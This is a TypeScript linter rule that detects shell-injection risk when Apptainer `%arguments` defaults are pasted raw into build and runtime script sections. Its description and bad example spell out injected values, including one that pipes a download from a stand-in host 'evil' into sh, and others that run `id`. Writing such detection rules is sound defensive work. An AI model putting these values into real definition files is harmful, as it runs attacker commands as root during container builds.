// DEF909 argument-shell-injection: a `%arguments` default pasted into shell code that the shell
// would read as more than a word (quotes, `$(...)`, backticks, `;` ...).
import type { ArgumentEntry, Stage } from '../../../parse/model.js';
import { describeCharacters, shellActiveCharacters } from '../../../parse/template.js';
import { defineRule } from '../../define-rule.js';
import { sectionAt } from '../../vocab/sections.js';
import { q } from '../../vocab/text.js';

export const argumentShellInjection = defineRule({
  create: (ctx) => ({
    stage(stage) {
      const reported = new Set<string>();
      for (const placeholder of stage.placeholders) {
        if (placeholder.skipped || reported.has(placeholder.name)) continue;
        const section = sectionAt(stage, placeholder.range.start.offset);
        if (!section || !CODE_SECTIONS.has(section.name)) continue;
        const entry = defaultEntry(stage, placeholder.name);
        const active = entry ? shellActiveCharacters(expandedDefault(stage, entry.value)) : [];
        if (!entry || active.length === 0) continue;
        reported.add(placeholder.name);
        ctx.report({
          messageId: 'pastedAsCode',
          data: {
            name: q(placeholder.name),
            characters: describeCharacters(active),
            placeholder: `{{ ${placeholder.name} }}`,
            section: `%${section.name}${section.app ? ` ${section.app}` : ''}`,
            line: placeholder.range.start.line,
          },
          range: entry.range,
        });
      }
    },
  }),
  meta: {
    id: 'DEF909',
    slug: 'argument-shell-injection',
    group: 'templating',
    defaultSeverity: 'error',
    presets: ['recommended'],
    summary: '`%arguments` default with shell-active characters, pasted into a script by `{{ NAME }}`.',
    description: [
      '`apptainer build` replaces `{{ NAME }}` with the value as raw text before any shell sees the script, so',
      'quoting around the placeholder does not help: a default such as `x"; curl evil | sh; "` or `$(id)` ends the',
      'string and runs a command — in `%post` as root at build time, in `%environment` at every container start.',
      'A value used in script sections should be a plain word: letters, digits, spaces and `_ / . , : = + @ % ^ ~ -`.',
      '(The same check guards recipe `arguments` in the generator.)',
      '',
      '**Fix:** use a plain value; pass anything else through the environment (`export` in `%environment`, read',
      'as `"$VAR"`) rather than through templating.',
    ].join('\n'),
    bad: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=x"; id; "\n\n%post\n    echo "{{ TAG }}"\n',
    good: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=3.19\n\n%post\n    echo "{{ TAG }}"\n',
    source: 'AP-ARGS `reader.go` (plain text substitution); deffile-format.md §13',
    messages: {
      pastedAsCode:
        'The default of {{ name }} contains {{ characters }} and {{ placeholder }} pastes it raw into {{ section }} (line {{ line }}): the shell would run it as code',
    },
  },
});

/** Sections whose body Apptainer runs (at build time, or at every container start for %environment). */
const CODE_SECTIONS = new Set(['post', 'setup', 'runscript', 'test', 'startscript', 'environment', 'appinstall', 'apprun', 'apptest', 'appenv', 'appstart']);

/** The `%arguments` line that sets the stage's default (the last one wins, as in Apptainer). */
function defaultEntry(stage: Stage, name: string): ArgumentEntry | undefined {
  let found: ArgumentEntry | undefined;
  for (const section of stage.sections) {
    if (section.name !== 'arguments') continue;
    for (const entry of section.arguments ?? []) if (entry.key === name && !entry.problem) found = entry;
  }
  return found;
}

/** A reference to another argument inside a default; Apptainer expands these too. */
const NESTED_PLACEHOLDER = /\{\{\s*([A-Za-z_][A-Za-z0-9_]*)\s*\}\}/g;

/**
 * The default as Apptainer pastes it: `{{ OTHER }}` inside a default is replaced by OTHER's default
 * (corpus 0397.def builds a URL from `{{FREESURFER_VERSION}}`). Bounded, so a reference cycle ends.
 */
function expandedDefault(stage: Stage, value: string, depth = 0): string {
  if (depth >= 8) return value;
  return value.replace(NESTED_PLACEHOLDER, (whole, name: string) => {
    const nested = defaultEntry(stage, name);
    return nested ? expandedDefault(stage, nested.value, depth + 1) : whole;
  });
}
